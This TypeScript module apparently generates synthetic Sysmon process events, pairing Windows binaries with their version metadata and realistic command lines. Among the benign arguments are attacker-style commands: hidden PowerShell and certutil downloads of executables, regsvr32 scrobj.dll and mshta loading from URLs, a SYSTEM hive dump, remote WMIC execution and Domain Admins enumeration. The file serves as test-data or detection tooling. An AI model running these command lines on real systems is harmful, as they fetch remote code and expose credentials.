/**
 * Windows executables that appear in process events, with their version-resource metadata (what Sysmon copies
 * into FileVersion, Description, Product, Company, OriginalFileName) and a command-line builder per image.
 * In: a seeded Faker and the user's home folder. Out: an image path and a command line that program would
 * really be started with (quoted or bare path, realistic arguments). Unknown user-dropped binaries carry `-`
 * metadata, as Sysmon writes for files without a version resource.
 */
import type { Faker } from '@faker-js/faker';
import { pick } from './faker-source.js';
import { fqdn, privateIpv4, url } from './network-values.js';
import { fileName, userExecutable, userFile } from './windows-values.js';

export interface WinBinary {
  readonly path: string;
  readonly originalFileName: string;
  readonly description: string;
  readonly product: string;
  readonly company: string;
  /** Arguments after the image (may be empty). */
  readonly args: (f: Faker, home: string) => string;
}

const WINDOWS = 'Microsoft® Windows® Operating System';
const MS = 'Microsoft Corporation';
const SYS32 = 'C:\\Windows\\System32';

function ms(path: string, originalFileName: string, description: string, args: WinBinary['args']): WinBinary {
  return { path, originalFileName, description, product: WINDOWS, company: MS, args };
}

const CMD_ARGS = ['whoami /all', 'ipconfig /all', 'net use', 'systeminfo', 'echo %PATH%', 'tasklist /v', 'ver'];
const PS_COMMANDS = ['Get-Process | Sort-Object CPU -Descending', 'Get-Service | Where-Object Status -eq Running', 'Get-ChildItem -Recurse -Filter *.log', 'Get-NetTCPConnection', 'Get-LocalUser', 'Test-NetConnection -ComputerName localhost -Port 445'];

export const SYSTEM_BINARIES: readonly WinBinary[] = Object.freeze([
  ms(`${SYS32}\\cmd.exe`, 'Cmd.Exe', 'Windows Command Processor', (f, home) => pick(f, [`/c ${pick(f, CMD_ARGS)}`, `/c type "${userFile(f, home, 'txt')}"`, `/c copy "${userFile(f, home)}" "C:\\Windows\\Temp\\"`, ''])),
  ms(`${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'PowerShell.EXE', 'Windows PowerShell', (f, home) => pick(f, [`-NoProfile -ExecutionPolicy Bypass -File "${userFile(f, home, 'ps1')}"`, `-Command "${pick(f, PS_COMMANDS)}"`, `-nop -w hidden -c "Invoke-WebRequest -Uri ${url(f)} -OutFile $env:TEMP\\${fileName(f, 'exe')}"`, ''])),
  ms(`${SYS32}\\rundll32.exe`, 'RUNDLL32.EXE', 'Windows host process (Rundll32)', (f, home) => pick(f, ['C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl', `"${userFile(f, home, 'dll')}",DllRegisterServer`, 'C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess 8'])),
  ms(`${SYS32}\\svchost.exe`, 'svchost.exe', 'Host Process for Windows Services', (f) => `-k ${pick(f, ['netsvcs', 'LocalService', 'NetworkService', 'DcomLaunch'])} -p -s ${pick(f, ['Schedule', 'BITS', 'Winmgmt', 'Dnscache', 'wuauserv', 'LanmanServer'])}`),
  ms('C:\\Windows\\explorer.exe', 'EXPLORER.EXE', 'Windows Explorer', (f) => pick(f, ['', '/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding'])),
  ms(`${SYS32}\\notepad.exe`, 'NOTEPAD.EXE', 'Notepad', (f, home) => `"${userFile(f, home, 'txt')}"`),
  ms(`${SYS32}\\reg.exe`, 'reg.exe', 'Registry Console Tool', (f) => pick(f, ['query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', `add HKCU\\Software\\${f.word.noun()} /v Enabled /t REG_DWORD /d 1 /f`, 'save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.hiv'])),
  ms(`${SYS32}\\schtasks.exe`, 'schtasks.exe', 'Task Scheduler Configuration Tool', (f, home) => pick(f, ['/query /fo LIST /v', `/create /tn "${f.word.noun()}" /tr "${userExecutable(f, home)}" /sc daily /st 09:00`, `/run /tn "\\Microsoft\\Windows\\${f.word.noun()}"`])),
  ms(`${SYS32}\\net.exe`, 'net.exe', 'Net Command', (f) => pick(f, [`user ${f.internet.username()} /domain`, 'group "Domain Admins" /domain', `use \\\\${privateIpv4(f)}\\C$`, 'localgroup administrators'])),
  ms(`${SYS32}\\certutil.exe`, 'CertUtil.exe', 'CertUtil.exe', (f, home) => pick(f, [`-urlcache -split -f ${url(f)} "${userFile(f, home, 'exe')}"`, `-hashfile "${userFile(f, home)}" SHA256`, `-decode "${userFile(f, home, 'txt')}" "${userFile(f, home, 'exe')}"`])),
  ms(`${SYS32}\\wbem\\WMIC.exe`, 'wmic.exe', 'WMI Commandline Utility', (f) => pick(f, ['process list brief', 'os get caption,version', `/node:${privateIpv4(f)} process call create "cmd.exe /c whoami"`, 'shadowcopy list brief'])),
  ms(`${SYS32}\\whoami.exe`, 'whoami.exe', 'whoami - displays logged on user information', (f) => pick(f, ['/all', '/priv', '/groups', ''])),
  ms(`${SYS32}\\conhost.exe`, 'CONHOST.EXE', 'Console Window Host', () => '0xffffffff -ForceV1'),
  ms(`${SYS32}\\wbem\\WmiPrvSE.exe`, 'Wmiprvse.exe', 'WMI Provider Host', () => '-Embedding'),
  ms(`${SYS32}\\mshta.exe`, 'MSHTA.EXE', 'Microsoft (R) HTML Application host', (f, home) => pick(f, [`"${userFile(f, home, 'hta')}"`, url(f)])),
  ms(`${SYS32}\\regsvr32.exe`, 'REGSVR32.EXE', 'Microsoft(C) Register Server', (f, home) => pick(f, [`/s "${userFile(f, home, 'dll')}"`, `/s /u /i:${url(f)} scrobj.dll`])),
  ms(`${SYS32}\\sc.exe`, 'sc.exe', 'Service Control Manager Configuration Tool', (f) => pick(f, [`query ${f.word.noun()}`, `create ${f.word.noun()} binPath= "C:\\Windows\\Temp\\${fileName(f, 'exe')}" start= auto`, 'queryex type= service state= all'])),
  ms(`${SYS32}\\PING.EXE`, 'ping.exe', 'TCP/IP Ping Command', (f) => `-n ${f.number.int({ min: 1, max: 10 })} ${pick(f, [privateIpv4(f), fqdn(f)])}`),
  ms(`${SYS32}\\curl.exe`, 'curl.exe', 'Curl', (f, home) => `-s -o "${userFile(f, home)}" ${url(f)}`),
  ms(`${SYS32}\\taskhostw.exe`, 'taskhostw.exe', 'Host Process for Windows Tasks', () => ''),
  {
    path: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    originalFileName: 'msedge.exe',
    description: 'Microsoft Edge',
    product: 'Microsoft Edge',
    company: MS,
    args: (f) => pick(f, ['--no-startup-window', `--type=renderer --lang=en-US --renderer-client-id=${f.number.int({ min: 4, max: 60 })}`, url(f)]),
  },
  {
    path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    originalFileName: 'chrome.exe',
    description: 'Google Chrome',
    product: 'Google Chrome',
    company: 'Google LLC',
    args: (f) => pick(f, ['', `--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US`, url(f)]),
  },
  {
    path: 'C:\\Program Files\\7-Zip\\7z.exe',
    originalFileName: '7z.exe',
    description: '7-Zip Console',
    product: '7-Zip',
    company: 'Igor Pavlov',
    args: (f, home) => `a -tzip "${userFile(f, home, 'zip')}" "${userFile(f, home)}"`,
  },
]);

/** Processes that commonly start others. */
export const PARENT_BINARIES: readonly WinBinary[] = SYSTEM_BINARIES.filter((b) =>
  /\\(explorer|cmd|powershell|svchost|WmiPrvSE|msedge|taskhostw)\.exe$/i.test(b.path),
);

/** A binary the user downloaded or dropped: no version resource (`-` metadata). */
export function droppedBinary(f: Faker, home: string): WinBinary {
  const path = userFile(f, home, 'exe');
  return { path, originalFileName: '-', description: '-', product: '-', company: '-', args: (g) => pick(g, ['', '--silent', `/S /D=${home}\\AppData\\Local`]) };
}

/** Mostly well-known binaries, sometimes a dropped one. */
export function anyBinary(f: Faker, home: string): WinBinary {
  return f.number.int({ min: 0, max: 5 }) === 0 ? droppedBinary(f, home) : pick(f, SYSTEM_BINARIES);
}

/** The command line `binary` is started with: quoted path, bare path, or short name, then its arguments. */
export function commandLine(f: Faker, binary: WinBinary, home: string): string {
  const args = binary.args(f, home);
  const shortName = binary.path.slice(binary.path.lastIndexOf('\\') + 1);
  const hasSpace = binary.path.includes(' ');
  const head = pick(f, hasSpace ? [`"${binary.path}"`] : [`"${binary.path}"`, binary.path, shortName]);
  return args === '' ? head : `${head} ${args}`;
}
